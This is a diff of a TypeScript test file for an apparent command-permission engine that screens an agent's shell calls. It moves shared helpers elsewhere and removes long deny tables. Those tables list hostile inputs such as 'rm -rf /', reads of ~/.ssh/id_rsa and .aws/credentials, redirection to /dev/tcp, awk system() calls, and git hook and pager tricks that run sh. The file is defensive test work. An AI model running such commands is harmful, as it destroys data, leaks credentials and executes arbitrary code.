@@ -1,55 +1,15 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: the tables are shell text, not templates
-import { beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import type { PolicyMode } from '../config/schema.ts';
-import { type DomainPattern, parseDomainPattern } from '../core/domains.ts';
-import { callGlobs, callPaths, decide, type EffectiveLists } from './decide.ts';
-import { floorPaths } from './paths.ts';
-import { parseShell } from './shell-parser.ts';
-import { toolAccess, useShellAssetsFromNodeModules } from './test-helpers.ts';
+import { parseDomainPattern } from '../core/domains.ts';
+import type { EffectiveLists } from './decide.ts';
+import { decide } from './decide.ts';
+import { CWD, decideCall, HOME, lists } from './test-decide.ts';
+import { toolAccess } from './test-helpers.ts';
 import type { PolicyDecision, ToolCallForPolicy } from './types.ts';
 
-beforeAll(() => useShellAssetsFromNodeModules());
-
-const HOME = '/home/u';
-const CWD = '/home/u/proj';
-
-function lists(overrides: Partial<EffectiveLists> = {}): EffectiveLists {
-  return {
-    commands: ['ls', 'echo', 'cat', 'find', 'rg', 'sed', 'git', 'grep'],
-    domains: ['*.github.com', 'example.org:8443', '10.0.0.1'].map(
-      (entry) => parseDomainPattern(entry) as DomainPattern,
-    ),
-    pathsRo: [CWD],
-    pathsRw: [`${CWD}/out`],
-    filesRo: [],
-    filesRw: [],
-    denied: [`${CWD}/private`],
-    mcpTools: ['fs.*', 'search'],
-    ...overrides,
-  };
-}
-
-/** Decides with identity canonicalisation: every path is taken to be canonical already. */
-async function run(
-  call: ToolCallForPolicy,
-  mode: PolicyMode = 'allowlist',
-  over: Partial<EffectiveLists> = {},
-) {
-  const shell = call.access?.kind === 'command' ? await parseShell(String(call.args.cmd)) : undefined;
-  const canonical = Object.fromEntries(callPaths(call, CWD, HOME, shell).map((path) => [path, path]));
-  // Globs match nothing here; gate.test.ts lists real folders.
-  const globs = Object.fromEntries(callGlobs(call, CWD, HOME, shell).map((pattern) => [pattern, []]));
-  return decide({
-    call,
-    mode,
-    lists: lists(over),
-    floor: floorPaths(HOME, `${HOME}/.rune`),
-    cwd: CWD,
-    home: HOME,
-    canonical,
-    globs,
-    ...(shell ? { shell } : {}),
-  });
+function run(call: ToolCallForPolicy, mode: PolicyMode = 'allowlist', over: Partial<EffectiveLists> = {}) {
+  return decideCall(call, { mode, lists: over });
 }
 
 const cmd = (text: string): ToolCallForPolicy => ({
@@ -59,170 +19,7 @@ const cmd = (text: string): ToolCallForPolicy => ({
   access: toolAccess('execute_cmd'),
 });
 
-describe('commands: refused for auto-allow with ls echo cat find rg sed git grep allowlisted', () => {
-  it.each([
-    ['ls; rm -rf /', 'command.not-allowed'],
-    ['ls && curl x', 'command.not-allowed'],
-    ['echo $(cat ~/.ssh/id_rsa)', 'command.construct'],
-    ['echo `id`', 'command.construct'],
-    ['cat <(id)', 'command.construct'],
-    ["bash -c 'rm x'", 'command.dangerous'],
-    ['env rm x', 'command.dangerous'],
-    ['xargs rm', 'command.dangerous'],
-    ['ls | xargs rm', 'command.dangerous'],
-    ['find . -exec rm {} \\;', 'command.dangerous'],
-    ['find . -delete', 'command.dangerous'],
-    ['find . -fprint /tmp/x', 'command.dangerous'],
-    ['rg --pre sh x', 'command.dangerous'],
-    ['rg --pre=sh x', 'command.dangerous'],
-    ["sed -e 'w /etc/x' f", 'command.dangerous'],
-    ["sed 's/a/b/e' f", 'command.dangerous'],
-    ["sed 's/a/b/w /tmp/x' f", 'command.dangerous'],
-    ['sed -i s/a/b/ f', 'command.dangerous'],
-    ["sed '1e id' f", 'command.dangerous'],
-    ['git -c core.pager=sh log', 'command.dangerous'],
-    ['git -ccore.pager=sh log', 'command.dangerous'],
-    ['git --paginate log', 'command.dangerous'],
-    ['git config core.hooksPath /tmp', 'command.dangerous'],
-    ['git log --output=/tmp/x', 'command.dangerous'],
-    ['git fetch --upload-pack=evil origin', 'command.dangerous'],
-    ['echo x > ~/.bashrc', 'path.runs-later'],
-    ['echo x > ~/notes.txt', 'command.redirect'],
-    ['echo x >> /etc/passwd', 'command.redirect'],
-    ['cd ~/.ssh && cat id_rsa', 'floor'],
-    ['cat ~/.ssh/id_rsa', 'floor'],
-    ['cat ../.aws/credentials', 'floor'],
-    ['grep -r key ~/.rune', 'floor'],
-    ['cat private/notes', 'denied_paths'],
-    ['cat${IFS}/etc/passwd', 'command.construct'],
-    ['IFS=/ ls', 'command.construct'],
-    ['echo ${x:=y}', 'command.construct'],
-    ["echo 'unterminated", 'command.parse-error'],
-    ['echo "unterminated', 'command.parse-error'],
-    ['ls &', 'command.construct'],
-    ['cat <<EOF\nhi\nEOF', 'command.construct'],
-    ['cat <<< hi', 'command.construct'],
-    ['(ls)', 'command.construct'],
-    ['{ ls; }', 'command.construct'],
-    ['f() { ls; }; f', 'command.construct'],
-    ['eval ls', 'command.dangerous'],
-    ['. ./script', 'command.dangerous'],
-    ['exec ls', 'command.dangerous'],
-    ['nohup ls', 'command.dangerous'],
-    ['timeout 5 ls', 'command.dangerous'],
-    ['rg foo *', 'command.dangerous'],
-    ['$(echo ls)', 'command.construct'],
-    ['l"s" x; rm y', 'command.not-allowed'],
-    ['/bin/ls', 'command.not-allowed'],
-    ["echo $'\\x41'", 'command.construct'],
-    ['for i in 1; do ls; done', 'command.construct'],
-    ['ls\nrm -rf /', 'command.not-allowed'],
-    ['grep -f~/.ssh/id_rsa x', 'floor'],
-    ['grep --file=/home/u/.aws/credentials x', 'floor'],
-    ['ls > /dev/tcp/1.2.3.4/80', 'command.redirect'],
-    ['cat < ~/.netrc', 'floor'],
-    ['grep -rn password ~', 'floor'],
-    ['grep -R key /home', 'floor'],
-    ['rg token ..', 'floor'],
-    ['grep --recursive x /', 'floor'],
-  ])('%s → %s', async (text, rule) => {
-    const decision = await run(cmd(text));
-    expect(decision).toMatchObject({ kind: 'deny', rule });
-  });
-
-  it.each([
-    ["sed -e 'w /etc/x' f", /: sed command "w" is not allowed \(only s, y/],
-    ["sed 's/a/b/e' f", /: sed s flag "e" \(e runs commands, w writes files\) is not allowed/],
-  ])('names the program once: %s', async (text, message) => {
-    const decision = await run(cmd(text));
-    expect(decision.kind === 'deny' && decision.reason).toMatch(message);
-    expect(decision.kind === 'deny' && decision.reason).not.toMatch(/sed sed/);
-  });
-
-  // Review attacks: option values hiding the awk program, GNU/git long-option abbreviations, and
-  // short options with their value glued on, with awk, sort and tar allowlisted too.
-  it.each([
-    'awk -v x=1 \'BEGIN{system("id")}\'',
-    'awk -F : \'BEGIN{system("id")}\' f',
-    'awk --source \'BEGIN{system("id")}\'',
-    'awk -E prog.awk',
-    'awk -l ./evil',
-    'awk -i inplace 1 f',
-    'sort --compress-prog=sh f',
-    'sort --outp=/tmp/x f',
-    'sort --o=/tmp/x f',
-    'tar --to-com=sh -xf a.tar',
-    'tar --use-compress-prog=sh -xf a.tar',
-    'git log --outp=/tmp/x',
-    'git fetch --upload-pa=evil origin',
-    'git diff --ext-d',
-    'git grep -Ocat x',
-    'git grep -iO x',
-    'git rebase -xsh main',
-    'git rebase --exe=sh main',
-    'git format-patch -o/tmp HEAD~1',
-    'git clone -ush x y',
-    'rg --pre-gl=* --pre=sh x',
-    // A clone or init copies hooks from --template, or takes hooksPath from --config, and runs them.
-    'git clone --template=evil . dst',
-    'git clone --templ=evil . dst',
-    'git clone --config core.hooksPath=evil . dst',
-    'git clone -c core.hooksPath=evil . dst',
-    'git init --template=evil dst',
-    'man -P sh ls',
-    'man --pager=sh ls',
-    'man -H ls',
-    // File names read from a list file never reach the floor check.
-    'sort --files0-from=list',
-    'tar -cf - -T list',
-    'tar --files-from=list -cf -',
-    'tar -xIsh -f a.tar',
-    'tar -cT list -f -',
-    'tar xIf sh a.tar',
-    'rg --hostname-bin=sh x',
-    'git credential-store get',
-    'git credential-cache get',
-  ])('%s → command.dangerous', async (text) => {
-    const decision = await run(cmd(text), 'allowlist', {
-      commands: ['ls', 'echo', 'cat', 'find', 'rg', 'sed', 'git', 'grep', 'awk', 'sort', 'tar', 'man'],
-    });
-    expect(decision).toMatchObject({ kind: 'deny', rule: 'command.dangerous' });
-  });
-
-  it.each([
-    "awk -F: '{print $1}' f",
-    "awk -v n=2 'NR==n' f",
-    'sort -n f',
-    'tar -tf a.tar',
-    'git log --oneline',
-  ])('%s stays allowed with awk, sort and tar listed', async (text) => {
-    const decision = await run(cmd(text), 'allowlist', {
-      commands: ['git', 'awk', 'sort', 'tar'],
-    });
-    expect(decision).toEqual({ kind: 'allow', rule: 'allowed_commands' });
-  });
-
-  it.each([
-    'ls -la | grep x',
-    'grep -rn TODO src',
-    'rg token src',
-    'ls ~',
-    'ls -la',
-    'git status',
-    "grep -n 'a|b' src/x.ts",
-    'cat src/a.ts src/b.ts 2>/dev/null',
-    'ls 2>&1 | grep x',
-    'echo hi > out/log.txt',
-    "sed -n 's/a/b/gp;3q' file",
-    "sed -e '/x/d' -e 's|a|b|' f",
-    'find . -name "*.ts" -type f',
-    'ls *.ts',
-    'echo a && echo b || echo c; ls',
-    'l"s" -la # a comment',
-  ])('%s → allow', async (text) => {
-    expect(await run(cmd(text))).toEqual({ kind: 'allow', rule: 'allowed_commands' });
-  });
-
+describe('commands (decide-command.test.ts has the tables)', () => {
   it('asks in confirm mode, suggesting the one missing program', async () => {
     const decision = await run(cmd('df -h'), 'confirm');
     expect(decision).toMatchObject({
